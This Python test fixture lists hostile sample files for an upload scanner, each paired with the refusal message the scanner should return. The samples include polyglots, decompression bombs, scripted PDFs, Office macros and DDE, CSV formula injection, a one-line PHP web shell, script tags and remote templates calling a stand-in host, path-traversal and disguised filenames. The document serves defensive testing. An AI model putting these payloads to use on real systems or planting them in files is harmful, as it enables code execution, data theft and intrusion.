"""Files of somebody who means harm, made in code: each with the name it comes under and the sentence it meets."""

from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Dictionary, Name, String

from tests import files as made
from tests.hostile_makers import (
    SCRIPT,
    SCRIPTED,
    action,
    annotated,
    archive,
    cut,
    deep,
    field,
    flate_bomb,
    form,
    jpeg_script,
    jpeg_with,
    laughs,
    locked,
    mail,
    many_objects,
    many_pages,
    named_script,
    nested,
    no_pages,
    opens_with,
    page_event,
    page_tree_loop,
    pdf,
    png_claiming,
    related,
)

#: the test file of the scanners' makers, in two parts so that no scanner minds this one
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

PRINT = "Open it, choose “Print”, then “Save as PDF”, and add that PDF."
CUT_OFF = (
    "This PDF is damaged or was cut off. Ask the vendor for it again. If it opens, print it to a new PDF and add that."
)
DAMAGED = "We could not read this file: it is damaged, or not what its name says. Ask the vendor for it again."
LOCKED = f"This PDF is encrypted or needs a password. {PRINT}"
TWO_FILES = f"Two files hide in this one. {PRINT}"
HIDES = "Something else hides in this image. Open it, save it again as PNG, and add that."
PIXELS = "This image has more than 100 million pixels. Make it smaller first."
MACROS = f"This file carries macros or controls. {PRINT}"
EMBEDDED = f"Other files are embedded in this one. {PRINT}"
LOADS = f"This file loads content from elsewhere when it is opened. {PRINT}"
GROWS = f"This file can grow without end when it is opened. {PRINT}"
UNPACKS = f"This file unpacks to more than we can check. {PRINT}"
PASSWORD = f"This file is protected with a password. {PRINT}"
TOO_MUCH = f"This file takes more time or memory to check than we allow. {PRINT}"
PARTS = f"This PDF has more parts than we can check. {PRINT}"
CELL = f"A cell of this table starts a command. {PRINT}"
MAIL = "Files are attached to this e-mail. Save each and add it by itself, then print the e-mail to PDF."
EMPTY = "This file is empty. Open it to see whether it holds anything, then choose it again."
ARCHIVE = "This is an archive. Unpack it and add each file by itself."
OTHER = (
    "We do not keep this type of file. Choose a PDF, image (PNG, JPEG), Word (.docx), Excel (.xlsx), "
    "e-mail (.eml) or plain text (.txt, .csv, .md)."
)
MACRO_TYPE = f"This file can hold macros. {PRINT}"
OLD_TYPE = f"This is an old Office type that can hold macros. {PRINT}"


def lies(ends: str, found: str = "") -> str:
    content = f"of the type “{found}”" if found else "something else"
    return f"The name ends in “{ends}”, but its content is {content}. Ask the vendor for the original file."


def active(what: str) -> str:
    return f"This PDF carries active content: {what}. {PRINT}"


@dataclass(frozen=True)
class Hostile:
    """One file: what it is, its name, its bytes, and the sentence that refuses it."""

    what: str
    name: str
    make: Callable[[], bytes]
    sentence: str


LYING = [
    Hostile("a program as PDF", "a.pdf", made.program, lies(".pdf", "exe")),
    Hostile("a picture as PDF", "a.pdf", made.png, lies(".pdf", "png")),
    Hostile("a Word file as PDF", "a.pdf", made.docx, lies(".pdf", "docx")),
    Hostile("a page as PDF", "a.pdf", lambda: SCRIPT, lies(".pdf")),
    Hostile("a PDF as picture", "a.png", made.pdf, lies(".png", "pdf")),
    Hostile("a JPEG as PNG", "a.png", made.jpeg, lies(".png", "jpg")),
    Hostile("a PNG as JPEG", "a.jpg", made.png, lies(".jpg", "png")),
    Hostile("an SVG as PNG", "a.png", lambda: b'<svg onload="alert(1)"/>', lies(".png")),
    Hostile("a PDF as Word file", "a.docx", made.pdf, lies(".docx", "pdf")),
    Hostile("a plain archive as Word file", "a.docx", lambda: archive(x=b"y"), lies(".docx", "zip")),
    Hostile("a table as Word file", "a.docx", made.xlsx, lies(".docx", "xlsx")),
    Hostile("a Word file as table", "a.xlsx", made.docx, lies(".xlsx", "docx")),
    Hostile("a program as mail", "a.eml", made.program, lies(".eml", "exe")),
    Hostile("a page as text", "a.txt", lambda: b"\n <!DOCTYPE html>" + SCRIPT, lies(".txt")),
    Hostile("a script as text", "a.txt", lambda: b"hello <script src=//x.example></script>", lies(".txt")),
    Hostile("PHP as text", "a.txt", lambda: b"<?php system($_GET['c']);", lies(".txt")),
    Hostile("UTF-7 as text", "a.txt", lambda: b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", lies(".txt")),
    Hostile("a page in UTF-16 as text", "a.txt", lambda: SCRIPT.decode().encode("utf-16"), lies(".txt")),
    Hostile("a program as table", "a.csv", made.program, lies(".csv", "exe")),
    Hostile("a PDF as text", "a.txt", made.pdf, lies(".txt", "pdf")),
]
POLYGLOTS = [
    Hostile("PDF and archive", "a.pdf", made.pdf_and_zip, TWO_FILES),
    Hostile("page, then PDF", "a.pdf", made.html_and_pdf, lies(".pdf")),
    Hostile(
        "PDF with a page in its head", "a.pdf", lambda: made.pdf().replace(b"\n", b"\n%" + SCRIPT + b"\n", 1), TWO_FILES
    ),
    Hostile("PDF, then a page", "a.pdf", lambda: made.pdf() + SCRIPT, TWO_FILES),
    Hostile("PDF, then a program", "a.pdf", lambda: made.pdf() + b"MZ\x90" + b"A" * 90, TWO_FILES),
    Hostile("GIF and PDF", "a.pdf", lambda: b"GIF89a\x01\0\x01\0" + made.pdf(), lies(".pdf", "gif")),
    Hostile("PNG and PHP", "a.png", lambda: made.png() + b"<?php system('id');", HIDES),
    Hostile("PNG and page", "a.png", made.png_with_page, HIDES),
    Hostile("PNG and archive", "a.png", lambda: made.png() + archive(x=b"y"), TWO_FILES),
    Hostile("PNG and program", "a.png", lambda: made.png() + made.program(), HIDES),
    Hostile("PNG and PDF", "a.png", lambda: made.png() + made.pdf(), HIDES),
    Hostile("JPEG and script", "a.jpg", jpeg_script, HIDES),
    Hostile("JPEG with a page in its comment", "a.jpg", lambda: jpeg_with(SCRIPT), HIDES),
    Hostile("JPEG and archive", "a.jpeg", lambda: made.jpeg() + archive(x=b"y"), TWO_FILES),
]
BOMBS = [
    Hostile("a Word file of 300 MB", "a.docx", made.docx_bomb, UNPACKS),
    Hostile("Word files in each other", "a.docx", nested, EMBEDDED),
    Hostile("an archive in a Word file", "a.docx", lambda: made.docx({"word/media/i.png": archive(x=b"y")}), EMBEDDED),
    Hostile("a billion laughs", "a.docx", lambda: made.docx({"word/document.xml": laughs()}), GROWS),
    Hostile("laughs in UTF-16", "a.xlsx", lambda: made.xlsx({"xl/s.xml": laughs().encode("utf-16")}), GROWS),
    Hostile("108 million pixels", "a.png", made.large_png, PIXELS),
    Hostile("a picture that claims 10^18 pixels", "a.png", lambda: png_claiming(10**9, 10**9), PIXELS),
    Hostile("a PDF that unpacks to 340 MB", "a.pdf", flate_bomb, CUT_OFF),
    Hostile("a PDF of 10^6 objects", "a.pdf", lambda: many_objects(1_000_000), TOO_MUCH),
    Hostile("a PDF of 310,000 objects", "a.pdf", lambda: many_objects(310_000), PARTS),
    Hostile("a page tree that loops", "a.pdf", page_tree_loop, CUT_OFF),
    Hostile("a PDF without pages", "a.pdf", no_pages, CUT_OFF),
    Hostile(
        "too many pages",
        "a.pdf",
        many_pages,
        "This PDF has 3,001 pages; we keep up to 3,000. Add only the part that matters.",
    ),
]
LOCKED_ONES = [
    Hostile("PDF with a password", "a.pdf", lambda: locked("secret", "owner"), LOCKED),
    Hostile("PDF locked against changes", "a.pdf", lambda: locked("", "owner"), LOCKED),
    Hostile("Word file with a password", "a.docx", made.password_protected_docx, PASSWORD),
    Hostile("table with a password", "a.xlsx", made.password_protected_docx, PASSWORD),
]
AUTOMATIC = active("an action that runs when it is opened")
ACTIVE_PDFS = [
    Hostile("script by name", "a.pdf", pdf(named_script), active("a script")),
    Hostile(
        "script in an object stream",
        "a.pdf",
        pdf(named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        active("a script"),
    ),
    Hostile("script when opened", "a.pdf", pdf(lambda d: opens_with(d, action("/JavaScript", **SCRIPTED))), AUTOMATIC),
    Hostile("script behind a hundred actions", "a.pdf", pdf(deep), active("a script")),
    Hostile("an address when opened", "a.pdf", made.pdf_with_open_action, AUTOMATIC),
    Hostile("an address when a page is turned", "a.pdf", pdf(page_event), AUTOMATIC),
    Hostile("a program", "a.pdf", made.pdf_with_launch, active("a command that starts a program")),
    Hostile(
        "a form that sends",
        "a.pdf",
        pdf(lambda d: annotated(d, Subtype=Name.Link, A=action("/SubmitForm", F=String("https://x.example")))),
        active("a form that sends data"),
    ),
    Hostile(
        "a form that reads",
        "a.pdf",
        pdf(lambda d: annotated(d, Subtype=Name.Link, A=action("/ImportData"))),
        active("a form that reads data"),
    ),
    Hostile("a form that runs", "a.pdf", pdf(form), active("a form that runs by itself")),
    Hostile(
        "a film",
        "a.pdf",
        pdf(lambda d: annotated(d, Subtype=Name.RichMedia, RichMediaContent=Dictionary())),
        active("sound or video"),
    ),
    Hostile(
        "a sound",
        "a.pdf",
        pdf(lambda d: annotated(d, Subtype=Name.Link, A=action("/Rendition"))),
        active("sound or video"),
    ),
    Hostile("a program attached", "a.pdf", made.pdf_with_attachment, active("attached files")),
    Hostile(
        "data that lies attached", "a.pdf", lambda: made.pdf_with_attachment("a.json", b"MZ"), active("attached files")
    ),
    Hostile(
        "an attached file that opens",
        "a.pdf",
        pdf(lambda d: annotated(d, Subtype=Name.Link, A=action("/GoToE"))),
        active("attached files"),
    ),
]
OFFICE = [
    Hostile("macros", "a.docx", made.docx_with_macros, MACROS),
    Hostile(
        "macros by their type", "a.docx", lambda: made.docx({"[Content_Types].xml": "x.macroEnabled.main+xml"}), MACROS
    ),
    Hostile("macros of old", "a.xlsx", lambda: made.xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), MACROS),
    Hostile("a control", "a.docx", lambda: made.docx({"word/activeX/activeX1.bin": b"x"}), MACROS),
    Hostile("an OLE object", "a.docx", lambda: made.docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), MACROS),
    Hostile("a package", "a.docx", lambda: made.docx({"word/embeddings/a.bin": b"x"}), EMBEDDED),
    Hostile("a program as picture", "a.docx", lambda: made.docx({"word/media/image1.png": b"MZ\x90"}), EMBEDDED),
    Hostile(
        "macros in a table inside",
        "a.docx",
        lambda: made.docx({"word/embeddings/t.xlsx": made.xlsx({"xl/vbaProject.bin": b"x"})}),
        MACROS,
    ),
    Hostile("a template elsewhere", "a.docx", made.docx_with_remote_template, LOADS),
    Hostile(
        "a template elsewhere, other quotes",
        "a.docx",
        lambda: made.docx({"word/_rels/s.rels": related("attachedTemplate", "https://x.example/t", quote="'")}),
        LOADS,
    ),
    Hostile(
        "a template elsewhere, in UTF-16",
        "a.docx",
        lambda: made.docx(
            {"word/_rels/s.rels": related("attachedTemplate", "//x.example/t").decode().encode("utf-16")}
        ),
        LOADS,
    ),
    Hostile(
        "an object elsewhere, escaped",
        "a.docx",
        lambda: made.docx({"word/_rels/s.rels": related("oleObject", "&#104;ttps://x.example/t", prefix="r:")}),
        LOADS,
    ),
    Hostile("DDE", "a.docx", lambda: made.docx({"word/document.xml": field('DDEAUTO c:\\\\cmd.exe "/k"')}), LOADS),
    Hostile("DDE in pieces", "a.docx", lambda: made.docx({"word/document.xml": field("D", "DE", " cmd")}), LOADS),
    Hostile(
        "DDE in a table", "a.xlsx", lambda: made.xlsx({"xl/externalLinks/l.xml": '<ddeLink ddeService="cmd"/>'}), LOADS
    ),
]
TRUNCATED = [
    Hostile("half a PDF", "a.pdf", made.truncated_pdf, CUT_OFF),
    Hostile("half a PNG", "a.png", lambda: cut(made.png()), DAMAGED),
    Hostile("half a JPEG", "a.jpg", lambda: cut(made.jpeg()), DAMAGED),
    Hostile("half a Word file", "a.docx", lambda: cut(made.docx()), DAMAGED),
    Hostile("half a table", "a.xlsx", lambda: cut(made.xlsx()), DAMAGED),
    Hostile("0 bytes", "a.pdf", lambda: b"", EMPTY),
    Hostile("1 byte as PDF", "a.pdf", lambda: b"%", lies(".pdf")),
    Hostile("1 byte as PNG", "a.png", lambda: b"\x89", lies(".png")),
    Hostile("1 byte as Word file", "a.docx", lambda: b"P", lies(".docx")),
    Hostile("1 byte as mail", "a.eml", lambda: b"x", lies(".eml")),
    Hostile("the end of a PDF alone", "a.pdf", lambda: b"%PDF-1.7\n%%EOF", CUT_OFF),
]
NAMES = [
    Hostile("300 letters and a lie", "x" * 296 + ".pdf", made.program, lies(".pdf", "exe")),
    Hostile("right to left", "invoice\u202efdp.exe", made.pdf, OTHER),
    Hostile("a NUL in it", "report.pdf\0.exe", made.pdf, OTHER),
    Hostile("two endings", "report.pdf.exe", made.pdf, OTHER),
    Hostile("two endings, a script", "report.pdf.js", lambda: b"alert(1)", OTHER),
    Hostile("a path", "../../../etc/cron.d/run.sh", lambda: b"#!/bin/sh", OTHER),
    Hostile("a path of Windows", "C:\\Windows\\win.ini", lambda: b"[x]", OTHER),
    Hostile("no ending", "report", made.pdf, OTHER),
    Hostile("an ending alone", ".pdf", made.pdf, OTHER),
    Hostile("macros by name", "policy.docm", made.docx_with_macros, MACRO_TYPE),
    Hostile("old Office", "policy.doc", made.password_protected_docx, OLD_TYPE),
    Hostile("an archive", "all.zip", lambda: archive(x=EICAR), ARCHIVE),
]
WORDS = [
    Hostile("a mail with a program", "a.eml", lambda: mail("setup.exe", b"MZ"), MAIL),
    Hostile("a mail with a program as picture", "a.eml", lambda: mail("a.png", b"MZ\x90", "image/png"), MAIL),
    Hostile("a table that runs", "a.csv", lambda: b"a,b\n1,\"=cmd|'/C calc'!A0\"\n", CELL),
    Hostile("a table that asks elsewhere", "a.csv", lambda: b'a,=WEBSERVICE("https://x.example")\n', CELL),
]
HOSTILE = [*LYING, *POLYGLOTS, *BOMBS, *LOCKED_ONES, *ACTIVE_PDFS, *OFFICE, *TRUNCATED, *NAMES, *WORDS]
